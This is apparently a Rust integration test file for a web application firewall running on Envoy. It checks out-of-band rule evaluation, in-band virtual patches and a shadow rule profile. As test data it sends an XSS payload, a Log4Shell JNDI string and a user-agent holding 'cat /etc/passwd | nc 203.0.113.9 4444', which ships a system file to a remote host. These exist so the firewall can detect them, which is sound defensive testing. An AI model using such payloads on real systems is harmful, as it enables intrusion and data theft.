//! Rules that nobody waits for, over the real Envoy: what `docs/out-of-band.md` and `docs/upgrade-crs.md` say.

use std::fs;
use std::time::Duration;

use glacis_tests::ext_proc::{self, ExtProc, edited};
use glacis_tests::http::Request;
use glacis_tests::stack::{Ports, Processor, Stack};
use glacis_tests::{http2, log, settings};
use serde_json::Value;

use crate::support::{Own, access_log, client, eventually, folder};

const XSS: &str = "q=%3Cscript%3Ealert(1)%3C/script%3E";
const FORM: &str = "application/x-www-form-urlencoded";

fn attack(path: &str) -> Request {
    Request::post(path, FORM, XSS).browser()
}

/// The block of YAML in a document that has `word` in it, so far to the right.
fn block(document: &str, word: &str, indent: usize) -> String {
    let text = fs::read_to_string(settings::root().join(document)).unwrap();
    let mut blocks = text.split("```yaml\n").skip(1).map(|rest| rest.split("```").next().unwrap());
    let block = blocks.find(|block| block.contains(word)).unwrap();
    block.lines().map(|line| format!("{:indent$}{line}\n", "")).collect()
}

#[track_caller]
fn counted(ext_proc: &ExtProc, name: &str, count: f64) {
    let mut found = None;
    eventually(&format!("{name} is {count}"), Duration::from_secs(10), || {
        found = ext_proc.metrics().unwrap().get(name).copied();
        found == Some(count)
    });
}

const WATCH: &str = "
profiles:
  watch: {evaluation: out_of_band}
";

const CLOSED: &str = "              - name: closed\n";

/// A route that is meant to be watched only is, and one that is not is refused by the guard.
#[test]
fn watched_routes() {
    let watched = block("docs/out-of-band.md", "glacis_observed", 14);
    let mistaken = watched.split("    envoy.filters.http.rbac").next().unwrap();
    let mistaken = mistaken.trim_end().replace("watched", "mistaken");
    let routes = format!("{watched}{mistaken}\n{CLOSED}");
    let own = Own::start("watched", Processor::ExtProcWith(WATCH), &[(CLOSED, &routes)]);
    let stack = &own.0;
    let ext_proc = stack.ext_proc.as_ref().unwrap();
    let from = client();
    let long = Request::post("/watched/echo", FORM, format!("{XSS}&long={}", "a".repeat(300_000)));
    for request in [attack("/watched/echo"), long.browser()] {
        assert_eq!(stack.send(from, &request).unwrap().status, 200);
        assert_eq!(http2::send(client(), stack.proxy(), &request).unwrap().status, 200);
    }
    assert_eq!(stack.send(client(), &attack("/echo")).unwrap().status, 403);
    let mistaken = Request::get(&format!("/mistaken/echo?{XSS}")).browser();
    assert_eq!(stack.send(client(), &mistaken).unwrap().status, 503);
    let line = &access_log(stack, &[from])[0];
    assert_eq!(line["glacis"]["verdict"], "observed", "{line}");
    assert_eq!(line["glacis"]["inspected"], "later", "{line}");
    counted(ext_proc, r#"glacis_requests_total{profile="default",verdict="deny"}"#, 1.0);
    counted(ext_proc, r#"glacis_requests_total{profile="watch",verdict="observed"}"#, 5.0);
    counted(ext_proc, r#"glacis_rule_matches_total{rule_id="941100"}"#, 6.0);
    let observed = |record: &&Value| record["action"] == "observed";
    eventually("a record of each", Duration::from_secs(5), || {
        stack.audit_log().iter().filter(observed).count() == 5
    });
}

/// Envoy does not wait for answers at all.
#[test]
fn observability_mode_out_of_band() {
    let edits = [
        ("allow_mode_override: true", "observability_mode: true"),
        ("request_body_mode: NONE", "request_body_mode: STREAMED"),
    ];
    let with = Processor::ExtProcWith("evaluation: out_of_band\n");
    let own = Own::start("observability-out-of-band", with, &edits);
    let ext_proc = own.0.ext_proc.as_ref().unwrap();
    for path in ["/open/echo", "/open/echo"] {
        assert_eq!(own.0.send(client(), &attack(path)).unwrap().status, 200);
    }
    counted(ext_proc, r#"glacis_requests_total{profile="default",verdict="observed"}"#, 2.0);
    counted(ext_proc, r#"glacis_rule_matches_total{rule_id="941100"}"#, 2.0);
    for kind in ["observability_mode", "streamed_body"] {
        counted(ext_proc, &format!(r#"glacis_alarms_total{{kind="{kind}"}}"#), 0.0);
    }
}

/// Two virtual patches in band, CRS out of band: one file, with the quickstart's Envoy.
#[test]
fn patches_in_band_and_crs_out_of_band() {
    let ports = Ports::free().unwrap();
    let logs = log::Folder::new(&folder("patches-ext-proc")).unwrap();
    let audit = logs.file(ext_proc::AUDIT).display().to_string();
    let config = edited(
        "envoy-configs/out-of-band/ext-proc.yaml",
        &[
            ("127.0.0.1:9001", format!("127.0.0.1:{}", ports.ext_proc)),
            ("127.0.0.1:9101", format!("127.0.0.1:{}", ports.ext_proc_admin)),
            ("../../.fetched/crs-4.25.0", settings::crs().unwrap().display().to_string()),
            ("stdout: true", format!("stdout: false\n  file: {audit}")),
        ],
    );
    let ext_proc = ExtProc::start_with(&config.unwrap(), ports.ext_proc_admin, &logs).unwrap();
    let own = Own::on("patches", ports, Processor::Other, &[]);
    let statuses =
        [("/echo", 200), ("/echo?q=%24%7Bjndi:ldap://192.0.2.1/a%7D", 403), ("/.git/config", 404)];
    for (path, status) in statuses {
        assert_eq!(own.0.send(client(), &Request::get(path).browser()).unwrap().status, status);
    }
    // CRS would refuse this, and its record says which rules found it; the request goes on at once.
    assert_eq!(own.0.send(client(), &attack("/echo")).unwrap().status, 200);
    counted(&ext_proc, r#"glacis_requests_total{profile="default",verdict="allow"}"#, 2.0);
    counted(&ext_proc, r#"glacis_requests_total{profile="default",verdict="deny"}"#, 2.0);
    counted(&ext_proc, r#"glacis_requests_total{profile="crs",verdict="observed"}"#, 4.0);
    counted(&ext_proc, r#"glacis_rule_matches_total{rule_id="941100"}"#, 1.0);
    counted(&ext_proc, r#"glacis_rule_matches_total{rule_id="944150"}"#, 1.0);
    counted(&ext_proc, r#"glacis_rule_matches_total{rule_id="10001"}"#, 1.0);
    let records = logs.read(ext_proc::AUDIT);
    let of_crs = |line: &&str| line.contains(r#""profile":"crs""#) && line.contains("941100");
    assert_eq!(records.lines().filter(of_crs).count(), 1, "{records}");
}

/// The steps of `docs/upgrade-crs.md`, with a higher paranoia level instead of a new release.
#[test]
fn a_shadow_says_what_would_change() {
    let shadow = block("docs/upgrade-crs.md", "shadow:", 0);
    let shadow = shadow.replace("crs: /etc/glacis/crs\n", "");
    let shadow = shadow.replace("percent: 10", "percent: 100");
    let shadow = shadow.replace("crs: /etc/glacis/crs-next", "paranoia: 2");
    let own = Own::start("shadow", Processor::ExtProcWith(shadow.leak()), &[]);
    let stack = &own.0;
    let ext_proc = stack.ext_proc.as_ref().unwrap();
    // No rule of level 1 reads the header that this stands in.
    let level_2 = || {
        let agent = "Mozilla/5.0; cat /etc/passwd | nc 203.0.113.9 4444";
        Request::get("/echo").header("user-agent", agent).browser()
    };
    assert_eq!(stack.send(client(), &Request::get("/echo").browser()).unwrap().status, 200);
    assert_eq!(stack.send(client(), &attack("/echo")).unwrap().status, 403);
    assert_eq!(stack.send(client(), &level_2()).unwrap().status, 200);
    for (result, count) in
        [("agreed", 2.0), ("would_block", 1.0), ("would_pass", 0.0), ("incomplete", 0.0)]
    {
        let labels = format!(r#"{{profile="default",shadow="next",result="{result}"}}"#);
        counted(ext_proc, &format!("glacis_shadow_requests_total{labels}"), count);
    }
    let mut line = Value::Null;
    eventually("a line of the log", Duration::from_secs(5), || {
        let log = stack.folder.read(ext_proc::LOG);
        let told = log.lines().find(|line| line.contains("the shadow decides otherwise"));
        line = told.map(|line| serde_json::from_str(line).unwrap()).unwrap_or_default();
        line != Value::Null
    });
    assert_eq!(line["current_verdict"], "pass", "{line}");
    assert_eq!(line["shadow_verdict"], "refuse with 403 by rule 949110", "{line}");
    assert!(line["only_shadow"].as_str().unwrap().contains("932"), "{line}");
    let of_shadow = |record: &&Value| record["profile"] == "next" && record["action"] == "observed";
    eventually("the shadow's record", Duration::from_secs(5), || {
        stack.audit_log().iter().filter(of_shadow).count() == 1
    });
    changed_over(stack, ext_proc, &level_2());
}

fn changed_over(stack: &Stack, ext_proc: &ExtProc, request: &Request) {
    ext_proc.set_keys("paranoia: 2\n").unwrap();
    ext_proc.hang_up().unwrap();
    // Rules are compiled on a thread that gives way: on a busy machine it takes its time.
    eventually("the new level is in use", Duration::from_secs(60), || {
        ext_proc.metrics().unwrap()[r#"glacis_reloads_total{result="success"}"#] > 0.0
    });
    assert_eq!(stack.send(client(), request).unwrap().status, 403);
}
